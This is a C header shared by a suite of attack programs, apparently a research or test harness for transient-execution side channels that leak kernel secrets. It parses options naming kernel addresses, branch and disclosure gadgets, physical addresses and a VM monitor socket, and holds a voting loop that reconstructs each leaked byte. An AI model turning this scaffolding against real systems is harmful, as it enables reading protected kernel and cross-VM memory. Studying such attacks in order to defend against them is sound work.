/*
 * What all attack programs share: their command line, and the loop that asks for one byte after
 * the other until it is sure of it.
 *
 *   NAME --target TARGET --bytes N [what the set-up programs printed]
 *
 * prints a line "byte INDEX VALUE CONFIDENCE" for each byte, VALUE as two hexadecimal digits or
 * "??", CONFIDENCE in per cent of the samples that showed a value, and at the end "done".
 */
#ifndef ATTACK_H
#define ATTACK_H

#ifndef _GNU_SOURCE
#define _GNU_SOURCE	/* register names of signal contexts; so this header comes first */
#endif
#include <err.h>
#include <getopt.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

enum { MOST_ADDRESSES = 16, MOST_BYTES = 64 };

/* Addresses that an option may give more than once. */
struct addresses {
	int count;
	uint64_t at[MOST_ADDRESSES];
};

/* What an attack is told. Everything but target and bytes comes from set-up programs, run by root. */
struct attack_options {
	const char *target;
	int bytes;
	uint64_t address;		/* linear address of the secret in the kernel */
	uint64_t physical;		/* its physical address */
	const char *service;		/* pipes of the program that uses the secret */
	const char *requests;		/* socket to which packets run the kernel's gadget */
	const char *gadget;		/* socket that hands out what the kernel's gadget shares */
	const char *entries;		/* socket of the program that makes page-table entries */
	const char *monitor;		/* socket of the monitor that runs virtual machines */
	uint64_t table;			/* kernel address of the gadget's table */
	uint64_t slow;			/* kernel address of what a branch waits for */
	uint64_t copy;			/* kernel address that the secret is copied to */
	uint64_t call;			/* system call that has the kernel use the secret */
	uint64_t known;			/* kernel address of a byte with the value KNOWN_BYTE */
	struct addresses branches;	/* last bytes of branches in the kernel */
	struct addresses disclosures;	/* kernel code that reads where a register points */
};

/* The value that set-up programs put where an attack may try whether it works. */
enum { KNOWN_BYTE = 0xa5 };

static struct attack_options options __attribute__((unused));

static inline uint64_t parse_number(const char *text)
{
	char *end;
	uint64_t value = strtoull(text, &end, 0);

	if (!*text || *end)
		errx(2, "%s: expected a number, found another text", text);
	return value;
}

static inline void add_address(struct addresses *list, const char *text)
{
	if (list->count == MOST_ADDRESSES)
		errx(2, "%s: expected at most %d addresses of a kind", text, MOST_ADDRESSES);
	list->at[list->count++] = parse_number(text);
}

static inline void parse_options(int argc, char **argv)
{
	static const struct option known[] = {
		{ "target", required_argument, NULL, 't' },
		{ "bytes", required_argument, NULL, 'b' },
		{ "address", required_argument, NULL, 'a' },
		{ "physical", required_argument, NULL, 'p' },
		{ "service", required_argument, NULL, 's' },
		{ "requests", required_argument, NULL, 'r' },
		{ "gadget", required_argument, NULL, 'g' },
		{ "entries", required_argument, NULL, 'e' },
		{ "monitor", required_argument, NULL, 'm' },
		{ "table", required_argument, NULL, 'T' },
		{ "slow", required_argument, NULL, 'S' },
		{ "copy", required_argument, NULL, 'c' },
		{ "call", required_argument, NULL, 'C' },
		{ "known", required_argument, NULL, 'k' },
		{ "branch", required_argument, NULL, 'B' },
		{ "disclosure", required_argument, NULL, 'D' },
		{ NULL, 0, NULL, 0 },
	};
	int option;

	while ((option = getopt_long(argc, argv, "", known, NULL)) != -1) {
		switch (option) {
		case 't': options.target = optarg; break;
		case 'b': options.bytes = parse_number(optarg); break;
		case 'a': options.address = parse_number(optarg); break;
		case 'p': options.physical = parse_number(optarg); break;
		case 's': options.service = optarg; break;
		case 'r': options.requests = optarg; break;
		case 'g': options.gadget = optarg; break;
		case 'e': options.entries = optarg; break;
		case 'm': options.monitor = optarg; break;
		case 'T': options.table = parse_number(optarg); break;
		case 'S': options.slow = parse_number(optarg); break;
		case 'c': options.copy = parse_number(optarg); break;
		case 'C': options.call = parse_number(optarg); break;
		case 'k': options.known = parse_number(optarg); break;
		case 'B': add_address(&options.branches, optarg); break;
		case 'D': add_address(&options.disclosures, optarg); break;
		default: exit(2);
		}
	}
	if (!options.target || options.bytes < 1 || options.bytes > MOST_BYTES || optind != argc)
		errx(2, "expected --target TARGET --bytes N, up to %d, and what the set-up programs printed", MOST_BYTES);
	setvbuf(stdout, NULL, _IOLBF, 0);
}

/* Marsaglia's xorshift. */
static inline uint64_t next_random(void)
{
	static uint64_t random = 88172645463325252;

	random ^= random << 13;
	random ^= random >> 7;
	random ^= random << 17;
	return random;
}

/* How long an attack goes on with a byte. */
struct patience {
	int samples;	/* at most */
	int lead;	/* votes by which a value has to be ahead of all others */
};

/* What one sample showed: 0 to 255, or NOTHING. */
enum { NOTHING = -1 };

/* What was told of a byte: its value or NOTHING, and whether it led by enough. */
struct told {
	int value;
	int sure;
};

/*
 * Samples one byte until a value leads by enough, and prints it. A zero is what a processor gives
 * that forwards nothing, so it only counts where zero_is_nothing is not set.
 */
static inline struct told recover_byte(int index, int (*sample)(int index), struct patience patience,
				       int zero_is_nothing)
{
	int votes[256] = { 0 };
	int shown = 0, best = 0, lead = 0;

	for (int i = 0; i < patience.samples && lead < patience.lead; i++) {
		int value = sample(index), second = -1;

		if (value == NOTHING || (value == 0 && zero_is_nothing))
			continue;
		shown++;
		votes[value]++;
		for (int v = 0; v < 256; v++) {
			if (votes[v] > votes[best])
				best = v;
		}
		for (int v = 0; v < 256; v++) {
			if (v != best && (second < 0 || votes[v] > votes[second]))
				second = v;
		}
		lead = votes[best] - votes[second];
	}
	if (!shown) {
		printf("byte %d ?? 0\n", index);
		return (struct told){ .value = NOTHING };
	}
	printf("byte %d %02x %d\n", index, best, 100 * votes[best] / shown);
	return (struct told){ .value = best, .sure = lead >= patience.lead };
}

/* Whether a byte has been tried before: then an attack may take more time for it. */
static int tried_before __attribute__((unused));

/*
 * Recovers the secret byte by byte. Where some came out, those in doubt are tried once more: what went
 * on in the system at first may have been in the way. Where most did, those that stay silent, where
 * zeros are nothing, are zeros, most likely: they are told as such, without confidence.
 */
static inline void recover(int (*sample)(int index), struct patience patience, int zero_is_nothing)
{
	uint64_t unsure = 0;
	int sure = options.bytes;

	for (int i = 0; i < options.bytes; i++) {
		if (!recover_byte(i, sample, patience, zero_is_nothing).sure) {
			unsure |= 1ULL << i;
			sure--;
		}
	}
	tried_before = 1;
	for (int i = 0; i < options.bytes && sure; i++) {
		struct told again;

		if (!(unsure >> i & 1))
			continue;
		again = recover_byte(i, sample, patience, zero_is_nothing);
		sure += again.sure;
		if (again.value == NOTHING && zero_is_nothing && 2 * sure > options.bytes)
			printf("byte %d 00 0\n", i);
	}
	printf("done\n");
}

#endif
